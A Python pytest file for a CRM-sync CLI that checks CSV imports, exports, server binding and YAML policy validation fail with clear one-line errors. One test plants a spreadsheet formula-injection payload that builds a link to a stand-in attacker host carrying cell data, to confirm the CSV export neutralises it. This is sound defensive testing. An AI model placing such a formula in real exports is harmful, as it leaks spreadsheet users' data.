"""Bad input meets the CLI as a person would give it: one clear line, never a traceback, and
nothing lost (good rows kept, nothing half written)."""

from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from leadbridge.hub.db import Hub
from leadbridge.hub.tables import Company, ErrorLogEntry
from leadbridge.sandbox.server import ServedApp
from leadbridge.settings import get_settings

from .cli_runner import lb, wide_terminal  # noqa: F401 (an autouse fixture)


def hub_companies() -> dict[str, Company]:
    hub = Hub.open(get_settings().database_url)
    try:
        with hub.session() as s:
            return {c.domain or "": c for c in s.scalars(select(Company))}
    finally:
        hub.dispose()


def write(path: Path, data: str | bytes) -> str:
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return str(path)


def test_a_huge_header_cell_is_one_line_and_writes_nothing(tmp_path: Path) -> None:
    result = lb("import", "companies", write(tmp_path / "c.csv", f"name,{'d' * 140_000}\nA,a\n"))
    assert result.exit_code == 1
    assert "header cell 2 is 140,000 characters long" in result.output
    assert len(result.output.strip().splitlines()) <= 3  # one message (wrapped at most)
    assert hub_companies() == {}


def test_a_huge_cell_and_a_huge_count_are_rejected_rows_and_the_rest_is_kept(
    tmp_path: Path,
) -> None:
    huge = "word " * 30_000  # 150,000 characters: over the csv module's own field limit
    body = (
        "name,domain,employees\n"
        f'"{huge}",huge.com,1\n'
        f"Overflow,overflow.com,{2**63}\n"
        "Kept,kept.com,1200\n"
    )
    result = lb("import", "companies", write(tmp_path / "c.csv", body))
    assert result.exit_code == 1
    assert "1 created" in result.output and "2 rejected" in result.output
    assert "row 2: name is 149,999 characters long (at most 255)" in result.output
    assert "row 3: employee count must be at most 2,147,483,647" in result.output
    assert {d: c.employee_count for d, c in hub_companies().items()} == {"kept.com": 1200}


@pytest.mark.parametrize(
    ("encoding", "told"),
    [
        ("utf-8", None),
        ("utf-8-sig", None),
        ("utf-16", "read as utf-16"),
        ("cp1252", "read as cp1252"),
        ("latin-1", "read as cp1252"),  # the same bytes for these letters: cp1252 reads them
    ],
)
def test_encodings_are_detected(tmp_path: Path, encoding: str, told: str | None) -> None:
    body = "name,domain,industry\nCafé Müller,cafe.de,Gastronomie\nÆble Ærø,aeble.dk,Frugt\n"
    result = lb("import", "companies", write(tmp_path / "c.csv", body.encode(encoding)))
    assert result.exit_code == 0, result.output
    assert "2 created" in result.output
    assert (told in result.output) if told else ("read as" not in result.output)
    names = {d: c.name for d, c in hub_companies().items()}
    assert names == {"cafe.de": "Café Müller", "aeble.dk": "Æble Ærø"}


def test_a_file_in_another_script_is_refused_with_what_to_do(tmp_path: Path) -> None:
    body = "name,domain\nООО Ромашка,romashka.ru\nЗАО Вектор,vector.ru\n".encode("cp1251")
    result = lb("import", "companies", write(tmp_path / "c.csv", body))
    assert result.exit_code == 1 and "save it as UTF-8" in result.output
    assert hub_companies() == {}


@pytest.mark.parametrize(("delimiter", "name"), [(";", "semicolon"), ("\t", "tab"), ("|", "pipe")])
def test_delimiters_are_sniffed(tmp_path: Path, delimiter: str, name: str) -> None:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(
        [["Company Name", "Domain", "Employees"], ["Acme, Inc.", "acme.com", "1,200"]]
    )
    result = lb("import", "companies", write(tmp_path / "c.csv", out.getvalue()))
    assert result.exit_code == 0, result.output
    assert f"read as {name}-separated" in result.output and "1 created" in result.output
    acme = hub_companies()["acme.com"]
    assert (acme.name, acme.employee_count) == ("Acme, Inc.", 1200)


def test_nul_bytes_are_rejected_rows_not_stored(tmp_path: Path) -> None:
    body = b"name,domain\nA\x00B,a.com\nGood,good.com\n"
    result = lb("import", "companies", write(tmp_path / "c.csv", body))
    assert result.exit_code == 1
    assert "row 2: column 'name' contains a NUL character" in result.output
    assert set(hub_companies()) == {"good.com"}


def test_icp_synonyms_are_mapped_and_unknown_values_list_the_accepted_ones(
    tmp_path: Path,
) -> None:
    body = (
        "name,domain,icp fit\n"
        "A,a.com,weak\nB,b.com,none\nC,c.com,low\nD,d.com,high\nE,e.com,good fit\n"
        "F,f.com,meh\n"
    )
    result = lb("import", "companies", write(tmp_path / "c.csv", body))
    assert result.exit_code == 1 and "5 created" in result.output
    assert "row 7: ICP fit 'meh' is not one of: strong (strong fit, high" in result.output
    assert "not_a_fit (no fit" in result.output and "unknown (n/a" in result.output
    fits = {d: c.icp_fit for d, c in hub_companies().items()}
    assert fits == {
        "a.com": "not_a_fit",
        "b.com": "not_a_fit",
        "c.com": "not_a_fit",
        "d.com": "strong",
        "e.com": "moderate",
    }


def test_import_help_documents_the_lead_column_and_icp_values() -> None:
    result = lb("import", "companies", "--help")
    text = " ".join(result.output.split())
    assert "lead (true/false: whether the company is a company lead" in text
    assert "not_a_fit (no fit, not fit, bad fit, poor fit, weak, low" in text


def test_strict_imports_nothing_and_lenient_keeps_the_good_rows(tmp_path: Path) -> None:
    body = "name,domain,icp_fit\nA,a.com,strong\nB,b.com,meh\nC,c.com,high\n"
    path = write(tmp_path / "c.csv", body)
    result = lb("import", "companies", path, "--strict")
    assert result.exit_code == 1 and "nothing imported" in result.output
    assert "row 3: ICP fit 'meh'" in result.output
    assert hub_companies() == {}
    result = lb("import", "companies", path)
    assert "2 created" in result.output and "row 3: ICP fit 'meh'" in result.output
    assert set(hub_companies()) == {"a.com", "c.com"}


def test_markup_in_a_file_is_printed_as_text(tmp_path: Path) -> None:
    result = lb("import", "companies", write(tmp_path / "c.csv", "[/bold],[red]x\n1,2\n"))
    assert result.exit_code == 1 and "found '[/bold]', '[red]x'" in result.output
    body = "name,domain,icp_fit\nA,a.com,[/x]\n"
    result = lb("import", "companies", write(tmp_path / "d.csv", body))
    assert result.exit_code == 1 and "ICP fit '[/x]'" in result.output


def test_users_import_reads_the_same_files(tmp_path: Path) -> None:
    body = "E-Mail;First Name;Active\nann@team.example;Ånn;yes\nbad-address;B;no\n"
    result = lb("import", "users", write(tmp_path / "u.csv", body.encode("cp1252")))
    assert result.exit_code == 1 and "1 created" in result.output
    assert "read as cp1252, semicolon-separated" in result.output
    assert "row 3: 'bad-address' is not a valid e-mail address" in result.output


@pytest.fixture
def connected(apollo_sandbox: Any) -> Any:
    with ServedApp(apollo_sandbox.app) as served:
        key = apollo_sandbox.issue_api_key(master=True)
        assert lb("connect", "apollo", "--api-key", key, "--base-url", served.url).exit_code == 0
        yield served


def test_explain_says_which_customer_fact_is_true(connected: Any, tmp_path: Path) -> None:
    body = (
        "name,domain,stage,customer,icp_fit\n"
        "Staged,staged.com,customer,false,strong\n"
        "Marked,marked.com,evaluation,true,strong\n"
        "Lead,lead.com,evaluation,false,strong\n"
    )
    assert lb("import", "companies", write(tmp_path / "c.csv", body)).exit_code == 0
    staged = lb("explain", "staged.com").output
    assert "✗ not a customer: stage is customer (though not marked as a customer)" in staged
    assert "not a customer: not a customer" not in staged
    marked = lb("explain", "marked.com").output
    assert "✗ not a customer: is marked as a customer (stage is evaluation)" in marked
    assert "✓ not a customer: is not a customer" in lb("explain", "lead.com").output


def test_errors_export_neutralises_formulas(tmp_path: Path) -> None:
    hub = Hub.open(get_settings().database_url)
    with hub.session() as s:
        s.add_all(
            [
                ErrorLogEntry(
                    workspace_id=hub.workspace_id,
                    job="apollo-push",
                    error_class="permanent",
                    message='=HYPERLINK("http://evil.example/?"&A1,"click")',
                    hint="@SUM(1+1)",
                ),
                ErrorLogEntry(
                    workspace_id=hub.workspace_id,
                    job="apollo-push",
                    error_class="transient",
                    message="-1+2 is not a number, -12 is",
                    hint=None,
                ),
            ]
        )
    hub.dispose()
    out = tmp_path / "errors.csv"
    result = lb("errors", "--csv", str(out))
    assert result.exit_code == 0 and "2 open error(s) written" in result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert {r["message"] for r in rows} == {
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'-1+2 is not a number, -12 is",
    }
    assert {r["how to fix"] for r in rows} == {"'@SUM(1+1)", ""}
    result = lb("errors", "--csv", str(tmp_path / "missing-dir" / "e.csv"))
    assert result.exit_code == 1 and "cannot write" in result.output


@pytest.mark.parametrize(
    ("bind", "says"),
    [
        ("host:notaport", "the port must be a number from 1 to 65535, got 'notaport'"),
        ("127.0.0.1:99999", "from 1 to 65535"),
        ("[::1", "needs its closing bracket"),
        ("[nope]:80", "'nope' is not an IPv6 address"),
        ("a b:80", "is not a host name or IP address"),
    ],
)
def test_serve_refuses_a_bad_bind_in_one_line(bind: str, says: str) -> None:
    result = lb("serve", "--bind", bind)
    assert result.exit_code == 2 and says in result.output
    assert len(result.output.strip().splitlines()) == 1


def _ipv6_port() -> int | None:
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.bind(("::1", 0))
            return int(s.getsockname()[1])
    except OSError:
        return None


def test_serve_binds_an_ipv6_loopback(tmp_path: Path) -> None:
    port = _ipv6_port()
    if port is None:
        pytest.skip("no IPv6 loopback on this machine")
    command = [sys.executable, "-m", "leadbridge", "serve", "--bind", f"[::1]:{port}"]
    proc = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=os.environ
    )
    try:
        deadline, status = time.monotonic() + 20, None
        while time.monotonic() < deadline and status is None:
            try:
                status = httpx.get(f"http://[::1]:{port}/healthz", timeout=1).json()
            except httpx.TransportError:
                assert proc.poll() is None, proc.stdout.read() if proc.stdout else ""
                time.sleep(0.2)
        assert status is not None and status["hub"]["ok"] is True
    finally:
        proc.terminate()
        output = proc.communicate(timeout=20)[0].decode()
    assert f"serving on http://[::1]:{port}" in output and "Traceback" not in output


def test_connect_apollo_oauth_code_against_an_unreachable_host() -> None:
    port = _free_port()
    result = lb(
        "connect", "apollo", "--oauth", "--client-id", "id", "--client-secret", "secret",
        "--code", "X", "--base-url", f"http://127.0.0.1:{port}",
    )  # fmt: skip
    assert result.exit_code == 1
    assert "cannot reach Apollo's token endpoint" in result.output
    assert "secret" not in result.output


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


POLICY_FIELD_TYPO = """version: 1
syncs:
  salesforce:
    lead:
      fields:
        - {hub: first_name, crm: FirstName, direction: both}
        - {hub: titel, crm: Title, direction: hub_to_crm}
"""


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (
            "syncs:\n  salesforce:\n    pull: " + "[" * 5000 + "]" * 5000 + "\n",
            "line 3: nested more than 40 levels deep",
        ),
        (
            "syncs:\n  salesforce:\n    batch_size: " + "9" * 5000 + "\n",
            "line 3: not valid YAML (a number with too many digits (5,000))",
        ),
        (
            POLICY_FIELD_TYPO,
            "line 7: syncs.salesforce.lead.fields.1.hub: unknown hub field 'titel' "
            "(did you mean 'title'?)",
        ),
        (
            "syncs:\n  salesforce:\n    pull: {interval_minutes: 0}\n",
            "line 3: syncs.salesforce.pull.interval_minutes: must be between 1 and 10080",
        ),
        (
            "syncs:\n  salesforce:\n    pull:\n      interval_minutes: 1000000000\n",
            "line 4: syncs.salesforce.pull.interval_minutes: must be between 1 and 10080",
        ),
        (
            "syncs:\n  salesforce:\n    setup_window_hours: -1\n",
            "line 3: syncs.salesforce.setup_window_hours: must be between 0 and 720 hours",
        ),
        (
            "syncs:\n  salesforce:\n    batch_size: 500\n",
            "line 3: syncs.salesforce.batch_size: must be between 1 and 200, got 500",
        ),
    ],
)
def test_a_malformed_policy_is_one_line_with_its_line_number(
    tmp_path: Path, text: str, says: str
) -> None:
    path = write(tmp_path / "leadbridge.yaml", text)
    result = lb("policy", "check", "--policy", path)
    assert result.exit_code == 1
    assert says in " ".join(result.output.split())
    assert result.output.count("line ") == 1  # one problem, not the sync block's echo
